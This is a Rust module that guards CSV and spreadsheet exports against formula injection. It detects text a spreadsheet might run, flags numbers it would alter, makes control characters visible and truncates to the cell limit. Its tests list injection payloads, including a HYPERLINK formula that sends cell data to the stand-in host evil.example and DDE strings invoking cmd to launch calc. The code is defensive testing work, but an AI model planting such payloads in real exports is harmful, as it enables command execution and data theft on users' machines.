//! What people wrote, made harmless for spreadsheets.
//!
//! A spreadsheet that opens a CSV file takes a cell for a formula if it begins with `=`, `+`, `-` or `@`, also after what it
//! trims, and in Chinese editions also if these are full-width; a formula can call programs and send what stands in other
//! cells to an address. An apostrophe before it makes it text. In a workbook a string is a string; there such a cell is
//! marked so that it stays one when somebody edits it.

use std::borrow::Cow;

use crate::words::{self, Lang};

/// Longest text of a cell, UTF-16 code units: a limit of the XLSX format and of Excel.
pub const CELL_MAX: usize = 32_767;

/// Most digits of a number that a spreadsheet keeps all of.
const DIGITS_MAX: usize = 15;

/// Whether a spreadsheet could take the text for a formula or a command.
pub fn could_run(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let trimmed = text.trim_start_matches(|c: char| c.is_whitespace() || is_quote(c) || is_invisible(c));
    trimmed.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦', '﹢', '﹣', '﹫'])
}

/// Whether a spreadsheet would read the text as a number and show another one: a telephone number's first zero goes, the
/// last of twenty digits become zeros, `2E10` becomes ten thousand million.
pub fn would_change(text: &str) -> bool {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    let only_digits = digits == text.len();
    let power = || {
        let split = text.split_once(['e', 'E']);
        split.is_some_and(|(a, b)| [a, b].into_iter().all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit())))
    };
    (only_digits && (digits > DIGITS_MAX || (digits > 1 && text.starts_with('0')))) || power()
}

fn is_quote(c: char) -> bool {
    matches!(c, '"' | '\'' | '`' | '“' | '”' | '‘' | '’' | '＂' | '＇' | '「' | '『')
}

/// Takes no room and is no whitespace to Unicode: control characters, zero-width ones, the byte order mark.
fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// The text with what no cell can hold made visible: control characters become their pictures (`␀`), line ends become
/// `\n`, what is no character becomes `�`.
pub(super) fn visible(text: &str) -> Cow<'_, str> {
    let harmless = |c: char| (c >= ' ' && c != '\u{7f}' && c < '\u{fffe}') || c == '\n' || c == '\t' || c > '\u{ffff}';
    if text.chars().all(harmless) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 8);
    let mut before = ' ';
    for c in text.chars() {
        match c {
            // One end of a line, however it was written.
            '\n' if before == '\r' => {}
            '\r' => shown.push('\n'),
            '\u{7f}' => shown.push('␡'),
            '\u{fffe}' | '\u{ffff}' => shown.push('\u{fffd}'),
            _ if harmless(c) => shown.push(c),
            _ => shown.push(char::from_u32(0x2400 + u32::from(c)).unwrap_or('\u{fffd}')),
        }
        before = c;
    }
    Cow::Owned(shown)
}

/// The text, no longer than a cell holds; what was cut says so.
pub(super) fn fitting(text: Cow<'_, str>, lang: Lang) -> Cow<'_, str> {
    // A UTF-16 unit is at least one byte of UTF-8: most texts need no counting.
    if text.len() <= CELL_MAX || text.encode_utf16().count() <= CELL_MAX {
        return text;
    }
    let mark = words::cut_mark(lang);
    let mut room = CELL_MAX - mark.encode_utf16().count();
    let mut kept = String::with_capacity(text.len());
    for c in text.chars() {
        let Some(left) = room.checked_sub(c.len_utf16()) else { break };
        room = left;
        kept.push(c);
    }
    kept.push_str(mark);
    Cow::Owned(kept)
}

#[cfg(test)]
pub(in crate::ledger) mod tests {
    use super::*;

    /// What somebody could write to have it run, or that must not be mistaken for it.
    pub(in crate::ledger) const RUNS: [&str; 26] = [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
        "=cmd|' /C calc'!A0",
        "+86 13800000000",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "  =1+1",
        "\u{3000}=1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{0}=1+1",
        "\"=1+1\"",
        "'=1+1",
        "“=1+1”",
        " \" =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "−1",
    ];

    #[test]
    fn what_could_run_is_known() {
        for text in RUNS {
            assert!(could_run(text), "{text:?}");
        }
        for text in ["", " ", "张某", "3号楼", "1+1=2", "a@b.example", "“你好”", "#N/A", "a=b", "13800000000", "2026-05-08"]
        {
            assert!(!could_run(text), "{text:?}");
        }
    }

    #[test]
    fn numbers_that_a_spreadsheet_would_change_are_known() {
        for text in ["09318888888", "00", "1234567890123456", "12345678901234567890", "2E34", "23e45672"] {
            assert!(would_change(text), "{text:?}");
        }
        for text in ["0", "10", "13800000000", "123456789012345", "1234 5678 9012 3456 7890", "E3", "3E", "0931-8888888", ""] {
            assert!(!would_change(text), "{text:?}");
        }
    }

    #[test]
    fn what_no_cell_can_hold_becomes_visible() {
        assert_eq!(visible("a\u{0}b\u{1f}c\u{7f}d\u{ffff}e\u{fffe}"), "a␀b␟c␡d\u{fffd}e\u{fffd}");
        assert_eq!(visible("一\r\n二\r三\n四\t五"), "一\n二\n三\n四\t五");
        assert!(matches!(visible("平常的话，𠮷。\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_text_longer_than_a_cell_is_cut_where_it_says_so_and_in_no_character() {
        let exact = "长".repeat(CELL_MAX);
        assert_eq!(fitting(Cow::Borrowed(&exact), Lang::Zh), exact);
        for long in ["长".repeat(CELL_MAX + 1), "𠮷".repeat(CELL_MAX), "x".repeat(CELL_MAX * 3)] {
            let cut = fitting(Cow::Borrowed(&long), Lang::Zh);
            let units = cut.encode_utf16().count();
            assert!(cut.ends_with("【内容过长，此处截断】") && (CELL_MAX - 1..=CELL_MAX).contains(&units), "{units}");
        }
    }
}
